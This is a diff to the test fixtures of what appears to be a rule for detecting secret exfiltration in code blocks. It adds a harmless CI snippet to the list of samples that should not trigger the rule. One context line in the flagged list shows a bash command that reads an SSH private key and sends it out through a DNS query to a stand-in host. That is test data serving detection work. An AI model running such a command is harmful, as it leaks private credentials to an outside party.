@@ -117,6 +117,7 @@ export default defineRule({
       '```bash\nkey=$(cat ~/.ssh/id_rsa | base64 | head -c 60)\ndig "$key.in.fieldlog.example"\n```\n',
     ],
     quiet: [
+      '```yaml\n- run: make\n  env:\n    A: b\n- run: gh pr comment "$PR" --body hello\n```\n',
       '```bash\nTOKEN=$(gh auth token)\ncurl -s -H "Authorization: Bearer $TOKEN" https://api.github.com/user\n```\n',
       '```bash\nTOKEN=$(gcloud auth print-identity-token)\ncurl -s -H "Authorization: Bearer $TOKEN" https://kiln.larch-quay.net/t\n```\n',
       '```bash\ngh auth token | docker login ghcr.io -u potter --password-stdin\n```\n',
